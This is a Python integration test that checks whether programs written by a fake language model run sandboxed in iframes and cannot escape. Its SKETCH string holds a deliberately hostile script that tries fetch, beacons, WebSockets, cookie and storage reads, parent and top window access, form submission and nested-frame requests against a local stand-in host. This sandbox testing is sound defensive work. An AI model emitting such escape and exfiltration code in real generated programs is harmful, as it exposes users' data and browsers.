"""Programs that a model wrote, run on the page: they draw and sound, and nothing gets out."""

from __future__ import annotations

import asyncio
import contextlib
import json
from typing import TYPE_CHECKING, Any

import pytest
import pytest_asyncio
from playwright.async_api import expect

from tests.fakes.ollama import FakeOllama
from tests.integration.chromium import PHONE, assert_accessible, open_browser, visiting
from tests.integration.http_edge import Edge, open_edge
from tests.support import eventually

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from playwright.async_api import Browser, Frame, Page

pytestmark = pytest.mark.asyncio(loop_scope="module")

TUNE = """
function play() {
  const synth = new Tone.Synth({ volume: -30 }).toDestination();
  window.ticks = 0;
  new Tone.Loop(() => { window.ticks += 1; }, 0.05).start(0);
  Tone.getTransport().start();
}
"""
SKETCH = """
function setup() { createCanvas(720, 720); }
function draw() { background(200, 120, 40); circle(360, 360, 200 + sin(frameCount / 20) * 50); }
const words = "</script><!-- stays inside";
const found = {};
async function attempt(name, way) {
  try { found[name] = String(await way()); } catch (error) { found[name] = "refused"; }
}
const load = (tag, field, extra = {}) => new Promise((done, fail) => {
  const element = Object.assign(document.createElement(tag), { [field]: TARGET + tag, ...extra });
  element.onload = () => done("loaded");
  element.onerror = () => fail();
  document.body.append(element);
});
async function escape() {
  await attempt("fetch", () => fetch(TARGET + "fetch").then((answer) => answer.text()));
  await attempt("home", () => fetch("/api/configs").then((answer) => answer.text()));
  await attempt("beacon", () => navigator.sendBeacon(TARGET + "beacon", "words") && refuse());
  await attempt("socket", () => new Promise((done, fail) => {
    const socket = new WebSocket(TARGET.replace("http", "ws"));
    socket.onopen = () => done("open"); socket.onerror = () => fail();
  }));
  await attempt("events", () => new Promise((done, fail) => {
    const source = new EventSource(TARGET + "events");
    source.onopen = () => done("open"); source.onerror = () => fail();
  }));
  await attempt("worker", () => new Promise((done, fail) => {
    const source = `fetch("${TARGET}worker").then(() => postMessage(1), () => postMessage(0))`;
    const worker = new Worker(URL.createObjectURL(new Blob([source])));
    worker.onmessage = (told) => told.data ? done("fetched") : fail();
    worker.onerror = () => fail();
  }));
  await attempt("picture", () => load("img", "src"));
  await attempt("script", () => load("script", "src"));
  await attempt("style", () => load("link", "href", { rel: "stylesheet" }));
  await attempt("import", () => import(TARGET + "module.js"));
  await attempt("eval", () => (0, eval)("1 + 1"));
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("parent", () => parent.document.title);
  await attempt("top", () => { top.location = TARGET + "top"; });
  await attempt("tab", () => window.open(TARGET + "tab") || refuse());
  await attempt("peer", () => new RTCPeerConnection());
  await attempt("form", () => {
    document.body.insertAdjacentHTML("beforeend", `<form action="${TARGET}form"></form>`);
    document.body.lastChild.submit(); refuse();
  });
  await attempt("inner", () => {
    const inner = document.createElement("iframe");
    inner.srcdoc = `<script>new Image().src = "${TARGET}inner"</` + "script>";
    document.body.append(inner);
    return inner.contentWindow.RTCPeerConnection ? "open" : refuse();
  });
  window.found = found;
}
function refuse() { throw new Error(); }
escape();
"""
REFUSED = "refused"


class Elsewhere:
    """Another site, which notes who comes: nobody may."""

    def __init__(self) -> None:
        """Nobody has come."""
        self.visits: list[bytes] = []
        self.url = ""

    async def met(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Note what is asked; browsers open connections ahead, and ask nothing over them."""
        with contextlib.suppress(OSError):
            if asked := await reader.readline():
                self.visits.append(asked)
        writer.close()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def elsewhere() -> AsyncIterator[Elsewhere]:
    """A site that is not ours."""
    site = Elsewhere()
    server = await asyncio.start_server(site.met, "127.0.0.1", 0)
    async with server:
        site.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/"
        yield site


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def edge(
    tmp_path_factory: pytest.TempPathFactory, elsewhere: Elsewhere
) -> AsyncIterator[Edge]:
    """A gateway before services whose model writes programs with bad intentions."""

    def answer(asked: dict[str, Any]) -> str:
        prompt = json.dumps(asked)
        if "Tone.js" in prompt:
            return f"```js\n{TUNE}```"
        if "p5.js" in prompt:
            return f"```js\nconst TARGET = {json.dumps(elsewhere.url)};\n{SKETCH}```"
        return "Ein Turm aus Seife singt leise."

    folder = tmp_path_factory.mktemp("programs")
    async with FakeOllama(answer) as ollama, open_edge(folder, ollama.url) as edge:
        yield edge


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Browser]:
    """Chromium."""
    async with open_browser() as browser:
        yield browser


async def test_programs_run_and_nothing_leaves_their_frame(
    edge: Edge, browser: Browser, elsewhere: Elsewhere
) -> None:
    """A sketch draws while every way out is shut: requests, cookies, the page, other windows."""
    async with visiting(browser, edge.url, viewport=PHONE) as learner:
        learner.is_provoked = True
        page = await learner.tab()
        await page.goto(edge.url)
        await page.click("fieldset summary")
        for output in ("p5_sketch", "tone_tune"):
            await page.check(f"input[value={output}]", force=True)
        await page.fill("textarea[name=text]", "Ein Turm aus Käse steht am Meer")
        await page.click("button[value=all]")
        await page.wait_for_url("**/make/*")
        await expect(page.locator(".output.delivered")).to_have_count(2)
        await expect(page.locator("#output-1 code")).to_contain_text("createCanvas(720, 720)")
        address = page.url

        sketch = await run(page, 1)
        await sketch.wait_for_selector("canvas")
        await eventually(lambda: sketch.evaluate("Boolean(window.found) && frameCount > 3"))
        found: dict[str, str] = await sketch.evaluate("window.found")
        tried = SKETCH.count("await attempt(")
        assert {name: what for name, what in found.items() if what != REFUSED} == {}
        assert len(found) == tried
        tune = await run(page, 2)
        await eventually(lambda: tune.evaluate("window.ticks > 2"))
        await expect(page.locator("iframe")).to_have_count(2)
        await assert_accessible(page)

        # A program can lead its own frame elsewhere; the page around it does not let it go there.
        await sketch.evaluate("url => { location.href = url + 'away'; }", elsewhere.url)
        await expect(page.frame_locator("#output-1 iframe").locator("canvas")).to_have_count(0)
        await page.click("#output-1 button[data-program]")
        await page.click("#output-2 button[data-program]")
        await expect(page.locator("iframe")).to_have_count(0)
        assert page.url == address
        assert elsewhere.visits == []


async def run(page: Page, number: int) -> Frame:
    """Start the program of an output; return its frame."""
    await page.click(f"#output-{number} button[data-program]")
    element = await page.locator(f"#output-{number} iframe").element_handle()
    frame = await element.content_frame()
    assert frame is not None
    return frame
